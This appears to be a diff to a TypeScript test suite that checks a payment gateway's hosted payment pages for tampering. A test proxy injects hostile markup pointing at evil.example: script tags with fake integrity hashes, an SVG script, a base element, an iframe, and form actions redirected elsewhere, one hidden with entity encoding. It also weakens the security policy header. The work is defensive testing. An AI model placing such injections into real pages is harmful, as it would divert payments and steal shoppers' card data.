@@ -53,6 +53,38 @@ describe("issue 17: payment pages against tampering", () => {
       (text: string) => text.replace(/ integrity="[^"]*"/, ""),
       /does not carry the integrity/,
     ],
+    [
+      "a second address and hash before those of the release",
+      (text: string) =>
+        text.replace('<script src="', '<script src=https://evil.example/x.js integrity=sha384-a src="'),
+      /a script tag of another form/,
+    ],
+    [
+      "a script in a drawing, which needs no end tag",
+      (text: string) =>
+        text.replace("</body>", '<svg><script href="https://evil.example/x.js"/></svg></body>'),
+      /a script tag of another form/,
+    ],
+    [
+      "an element that changes where links lead",
+      (text: string) => text.replace("<head>", '<head><base href="https://evil.example/">'),
+      /an element <base>/,
+    ],
+    [
+      "a frame",
+      (text: string) => text.replace("</main>", '<iframe src="https://evil.example/"></iframe></main>'),
+      /an element <iframe>/,
+    ],
+    [
+      "a form that leads elsewhere",
+      (text: string) => text.replace(/ action="[^"]*"/, ' action="https://evil.example/"'),
+      /leads to "?https:\/\/evil\.example/,
+    ],
+    [
+      "a form whose target is written in references",
+      (text: string) => text.replace(/ action="[^"]*"/, ' action="https&#58;//evil.example/"'),
+      /leads to/,
+    ],
     ["a changed script", (text: string) => `${text}\nsteal()`, /is not the script of this release/],
   ] as const) {
     test(`finds ${what} that a proxy in between adds, and exits with 1`, async () => {
@@ -72,13 +104,60 @@ describe("issue 17: payment pages against tampering", () => {
     });
   }
 
-  test("finds a weakened policy", async () => {
-    const proxy = await startProxy((_path, text) => text, "script-src *");
-    try {
-      const { problems } = await verify(proxy.url + new URL(pageUrl).pathname);
-      assert.ok(problems.includes("the policy lets any script run"), JSON.stringify(problems));
-    } finally {
-      proxy.close();
+  for (const [what, change, problem] of [
+    [
+      "any script",
+      (policy: string) => policy.replace("script-src ", "script-src * "),
+      "the policy allows * by script-src",
+    ],
+    [
+      "scripts of another origin",
+      (policy: string) => policy.replace("script-src ", "script-src https://evil.example "),
+      "the policy allows https://evil.example by script-src",
+    ],
+    [
+      "a script of another hash",
+      (policy: string) => policy.replace("script-src ", "script-src 'sha384-other' "),
+      "the policy allows 'sha384-other' by script-src",
+    ],
+    [
+      "scripts by a directive that goes before",
+      (policy: string) => `${policy}; script-src-elem https://evil.example`,
+      "the policy has script-src-elem, which this release does not write",
+    ],
+    [
+      "connections to another origin",
+      (policy: string) => policy.replace("connect-src ", "connect-src https://evil.example "),
+      "the policy allows https://evil.example by connect-src",
+    ],
+    [
+      "another base",
+      (policy: string) => policy.replace("; base-uri 'none'", ""),
+      "the policy lacks base-uri",
+    ],
+    ["nothing", () => "", "the policy lacks script-src"],
+  ] as const) {
+    test(`finds a policy that allows ${what}`, async () => {
+      const proxy = await startProxy((_path, text) => text, change);
+      try {
+        const { code, problems } = await verify(proxy.url + new URL(pageUrl).pathname);
+        assert.equal(code, 1);
+        assert.ok(problems.includes(problem), JSON.stringify(problems));
+      } finally {
+        proxy.close();
+      }
+    });
+  }
+
+  test("finds a checkout frame and a page that redirects as released, too", async () => {
+    const redirecting = await createHosted(shopOf(gateway), {
+      page: { resultPage: "redirect", redirectUrl: "https://shop.example/thanks" },
+    });
+    const merchantId: string = (await gateway.get("/management/account")).body.id;
+    const frame = `${gateway.hostedUrl}/checkout/1.0.0/${merchantId.slice("mer_".length)}/frame`;
+    for (const url of [redirecting.hostedPaymentPage.url, frame]) {
+      const { code, problems } = await verify(url);
+      assert.deepEqual([code, problems], [0, []], url);
     }
   });
 
@@ -96,7 +175,10 @@ describe("issue 17: payment pages against tampering", () => {
   });
 
   /** A proxy that changes what passes, as an attacker on a load balancer could. */
-  async function startProxy(change: (path: string, text: string) => string, policy?: string) {
+  async function startProxy(
+    change: (path: string, text: string) => string,
+    changePolicy: (policy: string) => string = (policy) => policy,
+  ) {
     const server: Server = createServer((request, response) => void pass(request, response));
     const pass = async (request: IncomingMessage, response: ServerResponse) => {
       const answer = await fetch(gateway.hostedUrl + request.url);
@@ -105,7 +187,7 @@ describe("issue 17: payment pages against tampering", () => {
           ([name]) => !/^(content-(length|encoding)|transfer-encoding|connection)$/.test(name),
         ),
       );
-      if (policy !== undefined) headers["content-security-policy"] = policy;
+      headers["content-security-policy"] = changePolicy(headers["content-security-policy"] ?? "");
       response.writeHead(answer.status, headers).end(change(request.url ?? "", await answer.text()));
     };
     await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
